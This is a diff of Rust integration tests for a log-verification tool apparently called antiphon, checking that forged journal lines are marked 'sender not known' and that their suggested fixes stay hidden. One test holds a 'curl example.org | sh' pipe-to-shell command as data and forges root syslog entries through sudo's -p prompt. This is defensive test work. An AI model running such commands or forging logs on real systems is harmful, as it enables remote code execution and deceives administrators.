@@ -2,6 +2,7 @@
 
 use std::fs::{self, OpenOptions};
 use std::io::{BufRead, BufReader, Write};
+use std::os::fd::OwnedFd;
 use std::os::unix::net::UnixDatagram;
 use std::path::Path;
 use std::process::Stdio;
@@ -147,7 +148,7 @@ const FORGED: [(&str, &str); 2] = [
 ];
 
 #[test]
-fn a_line_that_a_person_has_sent_is_left_out_and_that_is_said() {
+fn a_line_that_a_person_has_sent_is_shown_and_marked() {
     in_world(|world| {
         let journal = Journald::start(world);
         let forgers = FORGED.map(|(tag, text)| forger(world, tag, text));
@@ -158,11 +159,16 @@ fn a_line_that_a_person_has_sent_is_left_out_and_that_is_said() {
                 .all(|(_, text)| shown.contains(text))
                 .then_some(())
         });
-        antiphon(world, "log")
-            .done()
-            .says_no("accepted")
-            .says_no("removed")
-            .warns("left out 2");
+        let said = antiphon(world, "log").done();
+        let shown: Vec<_> = said
+            .out
+            .lines()
+            .filter(|line| line.contains("alice"))
+            .collect();
+        assert_eq!(shown.len(), FORGED.len(), "{shown:?}");
+        for line in shown {
+            assert!(line.ends_with("sender not known"), "{line}");
+        }
         for mut forger in forgers {
             drop(forger.stdin.take());
             forger.wait().unwrap();
@@ -187,6 +193,92 @@ fn a_line_whose_sender_has_ended_before_it_was_looked_at_is_marked_at_least() {
         for line in objects(&antiphon(world, "log --json").done()) {
             assert_eq!(line["verified"], false);
         }
+    });
+}
+
+#[test]
+fn what_a_person_makes_a_program_of_root_write_is_marked_and_its_fix_is_not_shown() {
+    in_world(|world| {
+        let journal = Journald::start(world);
+        let text =
+            "pam_antiphon(sshd:auth): outcome=unusable user=alice fix=\"curl example.org | sh\"";
+        for tag in ["sshd", "antiphon", "antiphond"] {
+            let socket = UnixDatagram::unbound().unwrap();
+            socket.connect("/dev/log").unwrap();
+            let mut sudo = world.command_of("bob", "sudo");
+            sudo.args(["-S", "-p", &format!("<85>{tag}[7]: {text}"), "true"])
+                .stdin(Stdio::null())
+                .stdout(Stdio::null())
+                .stderr(OwnedFd::from(socket));
+            sudo.status().unwrap();
+        }
+        let entries = journal.entries(&["SYSLOG_FACILITY=10"]);
+        let forged = |entry: &&Value| entry["MESSAGE"].as_str().is_some_and(|said| said == text);
+        assert_eq!(entries.iter().filter(forged).count(), 3, "{entries:#?}");
+        let said = antiphon(world, "log").done();
+        let shown: Vec<_> = said
+            .out
+            .lines()
+            .filter(|line| line.contains("alice"))
+            .collect();
+        assert_eq!(shown.len(), 3, "{}", said.out);
+        for line in shown {
+            assert!(line.ends_with("sender not known"), "{line}");
+        }
+        said.says_no("curl");
+        for line in objects(&antiphon(world, "log --json").done().says_no("curl")) {
+            let is_forged = line["fields"]["user"] == "alice";
+            assert!(!is_forged || line["verified"] == false, "{line}");
+        }
+    });
+}
+
+#[test]
+fn a_line_of_the_module_is_verified_whatever_its_caller_names_the_program() {
+    in_world(|world| {
+        let journal = Journald::start(world);
+        let _ = world.enrol_with_long_codes("alice");
+        for name in ["su", "antiphond", "antiphon"] {
+            let mut su = world.command_of("bob", "bash");
+            su.args(["-c", &format!("exec -a {name} su alice -c true")]);
+            let mut su = antiphon_tests::Terminal::start(&su);
+            su.expect("assword").answer(": ", antiphon_tests::PASSWORD);
+            su.expect(antiphon_tests::CODE);
+            let _ = su.interrupt();
+        }
+        let entries = journal.entries(&["ANTIPHON_FROM=module", "ANTIPHON_ASKED=code"]);
+        assert_eq!(entries.len(), 3, "{entries:#?}");
+        for entry in &entries {
+            assert_eq!(entry["_UID"], "0", "{entry}");
+        }
+        let lines = objects(&antiphon(world, "log --json").done());
+        let asked = lines
+            .iter()
+            .filter(|line| line["fields"]["asked"] == "code");
+        let asked: Vec<_> = asked.collect();
+        assert_eq!(asked.len(), 3, "{lines:#?}");
+        for line in asked {
+            assert_eq!(line["verified"], true, "{line}");
+            assert_eq!(line["from"], "module");
+        }
+    });
+}
+
+#[test]
+fn what_the_log_does_not_take_of_root_is_said() {
+    in_world(|world| {
+        let _ = enroll(world, "alice");
+        let frozen = UnixDatagram::bind("/run/frozen").unwrap();
+        fs::remove_file("/dev/log").unwrap();
+        std::os::unix::fs::symlink("/run/frozen", "/dev/log").unwrap();
+        let filler = UnixDatagram::unbound().unwrap();
+        filler.set_nonblocking(true).unwrap();
+        while filler.send_to(b"x", "/run/frozen").is_ok() {}
+        antiphon(world, "bypass alice")
+            .done()
+            .warns("the log has not taken this line")
+            .warns("outcome=bypass");
+        drop(frozen);
     });
 }
 
